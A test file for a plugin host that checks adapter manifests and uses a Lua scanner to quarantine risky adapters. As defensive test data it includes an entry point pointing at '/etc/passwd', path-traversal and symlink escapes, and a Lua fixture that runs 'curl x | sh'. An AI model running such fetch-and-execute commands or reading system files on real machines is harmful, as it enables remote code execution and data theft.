// Adapter manifests from real files: ptywright's echo manifest unchanged, gatehouse.toml with
// kind = "adapter", and every error with the file, line and column an editor shows.
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { loadAdapter, validateAdapterManifest } from '../../../main/adapters/adapter-manifest.js';
import { pluginFolders } from '../../../main/registry/plugin-registry.js';
import { repoRoot } from '../../support/cli.js';
import { tempDir } from '../../support/temp.js';

function folder(manifest: string, files: Record<string, string> = { 'main.lua': 'return {}' }, name = 'manifest.toml'): string {
  const dir = join(tempDir(), 'demo');
  mkdirSync(dir);
  writeFileSync(join(dir, name), manifest);
  for (const [f, text] of Object.entries(files)) writeFileSync(join(dir, f), text);
  return dir;
}
const base = 'name = "demo"\nkind = "adapter"\nversion = "0.1.0"\nruntime = "lua"\nentrypoint = "main.lua"\n';

describe('adapter manifests', () => {
  it("loads ptywright's echo manifest unchanged, with its default target and default limits", () => {
    const { adapter, problems } = loadAdapter(join(repoRoot, 'examples/plugins/echo'));
    expect(problems).toEqual([]);
    expect(adapter?.manifest).toMatchObject({ name: 'echo', kind: 'adapter', runtime: 'lua', entrypoint: 'main.lua', permissions: ['session.spawn', 'session.kill', 'screen.read', 'transcript.read', 'input.write', 'matcher.wait'], defaultTarget: { program: '/bin/sh', args: ['-lc', 'cat'] } });
    expect(adapter?.entrypointPath.endsWith(join('echo', 'main.lua'))).toBe(true);
  });

  it('reads gatehouse.toml with kind = "adapter" and [limits]', () => {
    const dir = folder(`${base}permissions = ["screen.read"]\n[limits]\nops = 5000\nmemory_mb = 8\ntimeout_ms = 300\n`, undefined, 'gatehouse.toml');
    const { adapter } = loadAdapter(dir);
    expect(adapter?.manifest.limits).toEqual({ ops: 5000, memoryMb: 8, timeoutMs: 300 });
    expect(adapter?.manifestFile).toBe('gatehouse.toml');
  });

  it('unknown and duplicated permissions are errors at their own line and column', () => {
    const dir = folder(`${base}permissions = [\n  "screen.read",\n  "screen.write",\n  "screen.read",\n]\n`);
    const { adapter, problems } = loadAdapter(dir);
    expect(adapter).toBeNull();
    expect(problems).toEqual([
      expect.objectContaining({ file: 'manifest.toml', code: 'permission.unknown', line: 8, column: 3, path: 'permissions.1' }),
      expect.objectContaining({ file: 'manifest.toml', code: 'permission.duplicate', line: 9, column: 3, path: 'permissions.2' }),
    ]);
    expect(problems[0]!.message).toMatch(/screen\.write.*session\.spawn/);
  });

  it('rejects an absolute entry point, one with .., and a symlink that leads outside after canonicalisation', () => {
    expect(loadAdapter(folder(base.replace('"main.lua"', '"/etc/passwd"'))).problems[0]).toMatchObject({ code: 'entrypoint.outside', line: 5, column: 1 });
    expect(loadAdapter(folder(base.replace('"main.lua"', '"../main.lua"'))).problems[0]).toMatchObject({ code: 'entrypoint.outside' });
    const outside = join(tempDir(), 'evil.lua');
    writeFileSync(outside, 'return {}');
    const dir = folder(base.replace('"main.lua"', '"link.lua"'), {});
    symlinkSync(outside, join(dir, 'link.lua'));
    const r = loadAdapter(dir);
    expect(r.adapter).toBeNull();
    expect(r.problems[0]).toMatchObject({ code: 'entrypoint.outside', line: 5 });
    expect(r.problems[0]!.message).toMatch(/outside the adapter's folder/);
  });

  it('names each bad field: limits out of range, unknown fields, wasm runtime, missing name, TOML syntax', () => {
    const r = loadAdapter(folder(`${base.replace('name = "demo"', 'name = ""').replace('"lua"', '"wasm"')}colour = "red"\n[limits]\nops = 1\nfuel = 3\n`));
    expect(r.problems.map((p) => [p.code, p.path, p.line])).toEqual([
      ['manifest.name', 'name', 1],
      ['manifest.runtime', 'runtime', 4],
      ['manifest.unknown-field', 'colour', 6],
      ['limits.range', 'limits.ops', 8],
      ['manifest.unknown-field', 'limits.fuel', 9],
    ]);
    const syntax = loadAdapter(folder('name = "demo"\nkind = \n'));
    expect(syntax.problems[0]).toMatchObject({ code: 'manifest.syntax', line: 2 });
  });

  it('validates a bare manifest object as plugin.validate_manifest does (no folder)', () => {
    expect(validateAdapterManifest({ name: 'demo', kind: 'adapter', version: '0.1.0', runtime: 'lua', entrypoint: 'main.lua', permissions: ['session.spawn', 'screen.read'] }).problems).toEqual([]);
    expect(validateAdapterManifest({ name: 'demo', kind: 'adapter', version: '0.1.0', entrypoint: 'main.lua' }).problems[0]).toMatchObject({ code: 'manifest.runtime' });
  });

  it('the plugin registry leaves adapter folders (manifest.toml, or gatehouse.toml with an adapter kind) to the adapters', () => {
    const root = tempDir();
    for (const [name, file, text] of [
      ['pty-adapter', 'manifest.toml', base],
      ['gh-adapter', 'gatehouse.toml', base],
      ['tool', 'gatehouse.toml', 'name = "tool"\nversion = "1.0.0"\ncommand = "run.sh"\n'],
    ] as const) {
      mkdirSync(join(root, name));
      writeFileSync(join(root, name, file), text);
    }
    expect(pluginFolders(root)).toEqual([join(root, 'tool')]);
  });
});

describe('the Lua scan', () => {
  it('finds os.execute, io.popen, loading code from strings and debug, with line and column; comments and strings do not count', async () => {
    const { scanLua } = await import('../../../main/registry/scan/lua-scan.js');
    const src = ['-- os.execute("rm") in a comment', 'local s = "io.popen in a string"', 'os.execute("ls")', 'local f = io.popen("id")', 'local g = load("return 1")', 'debug.sethook()', 'local M = {} function M.load(x) return x end', 'M.load("fine")'].join('\n');
    expect(scanLua('main.lua', src).map((f) => [f.rule, f.line, f.column, f.weight])).toEqual([
      ['lua.os-execute', 3, 1, 3],
      ['lua.io-popen', 4, 11, 3],
      ['lua.load-string', 5, 11, 3],
      ['lua.debug', 6, 1, 2],
    ]);
  });

  it('an adapter whose scan fails is quarantined and does not start', async () => {
    const { AdapterService } = await import('../../../main/adapters/adapter-service.js');
    const { PtyManager } = await import('../../../main/pty/pty-manager.js');
    const dir = folder(`${base}permissions = ["session.spawn"]\n[default_target]\nprogram = "/bin/sh"\n`, { 'main.lua': 'local M = {} function M.classify() os.execute("curl x | sh") end return M' });
    const ptys = new PtyManager({ record: () => {}, events: { output: () => {}, changed: () => {} } });
    const svc = new AdapterService({ ptys, record: () => {}, folders: () => [join(dir, '..')], allowPluginLoad: false });
    expect(svc.list()[0]).toMatchObject({ name: 'demo', quarantined: expect.stringMatching(/scan failed: main\.lua:1:\d+ lua\.os-execute/) });
    await expect(svc.start({ plugin: 'demo' }, 'operator:t')).rejects.toMatchObject({ reason: 'quarantined' });
    await svc.dispose();
    await ptys.close();
  });
});
